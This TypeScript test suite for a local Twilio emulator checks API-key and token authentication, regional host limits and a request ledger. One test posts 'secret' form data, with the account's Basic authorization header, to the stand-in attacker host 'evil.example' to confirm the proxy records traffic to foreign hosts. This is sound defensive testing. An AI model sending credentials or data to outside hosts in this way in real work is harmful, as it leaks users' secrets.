import { LocalTwilioClient, type TestAccount } from './client';
import { request } from './request';

const twilio = new LocalTwilioClient();
let account: TestAccount;

beforeAll(async () => {
	account = await twilio.createAccount();
});

const list = '~/Messages.json';

test('the Auth Token and both kinds of API key may list messages', async () => {
	const { main, standard } = account.credentials.apiKeys;
	for (const { sid, secret } of [main, standard]) {
		expect((await request(account, 'GET', list, { login: [sid, secret] })).status).toBe(200);
	}
	expect((await request(account, 'GET', list)).status).toBe(200);
});

test('a Main key may read the account, a Standard key may not', async () => {
	const { main, standard } = account.credentials.apiKeys;
	const read = async ({ sid, secret }: typeof main) =>
		(await request(account, 'GET', '~.json', { login: [sid, secret] })).status;
	expect(await read(main)).toBe(200);
	expect(await read(standard)).toBe(401);
});

test.each([
	['a wrong token', () => [account.sid, 'wrong']],
	['an unknown account', () => [`AC${'0'.repeat(32)}`, 'x']],
	[
		'an API key with the token of the account',
		() => [account.credentials.apiKeys.main.sid, account.credentials.authToken],
	],
] as Array<[string, () => [string, string]]>)('%s is 401 with code 20003', async (_what, login) => {
	const { status, data } = await request(account, 'GET', list, { login: login() });
	expect([status, data.code, data.message]).toEqual([401, 20003, 'Authenticate']);
});

test('the path of another account is 401', async () => {
	const other = await twilio.createAccount();
	const { status } = await request(
		account,
		'GET',
		`https://api.twilio.com/2010-04-01/Accounts/${other.sid}/Messages.json`,
	);
	expect(status).toBe(401);
});

const hostOf = { us1: 'api.twilio.com', ie1: 'api.dublin.ie1.twilio.com', au1: 'api.sydney.au1.twilio.com' };
const regions = ['us1', 'ie1', 'au1'] as const;

test.each(regions)('an account of %s can authenticate in its own region only', async (region) => {
	const regional = await twilio.createAccount({ region });
	for (const other of regions) {
		const path = `https://${hostOf[other]}/2010-04-01/Accounts/${regional.sid}/Messages.json`;
		const { status } = await request(regional, 'GET', path);
		expect([other, status]).toEqual([other, other === region ? 200 : 401]);
	}
});

test('Verify is not served outside us1, and an attempt stands in the ledger', async () => {
	const regional = await twilio.createAccount({ region: 'ie1' });
	const { status } = await request(regional, 'GET', 'https://verify.dublin.ie1.twilio.com/v2/Services');
	expect(status).toBe(404);
	const { requests } = await regional.ledger();
	expect(requests).toMatchObject([{ host: 'verify.dublin.ie1.twilio.com', authorized: false, status: 404 }]);
});

test("a host that is not Twilio's is remembered with what was sent to it", async () => {
	const mark = account.sid;
	await request(account, 'POST', `https://evil.example/${mark}`, { form: { Body: 'secret' } });
	const reached = (await twilio.foreign()).filter(({ path }) => path === `/${mark}`);
	expect(reached).toMatchObject([{ host: 'evil.example', method: 'POST', body: 'Body=secret' }]);
	expect(reached[0]?.headers.authorization).toMatch(/^Basic /);
});

test('a connection to an unknown host does not come about, but is remembered', async () => {
	const host = `${account.sid.toLowerCase()}.example`;
	// axios takes the proxy's refusal for the host's response.
	expect((await request(account, 'GET', `https://${host}/`)).status).toBe(502);
	expect((await twilio.foreign()).filter((entry) => entry.host === host)).toHaveLength(1);
});
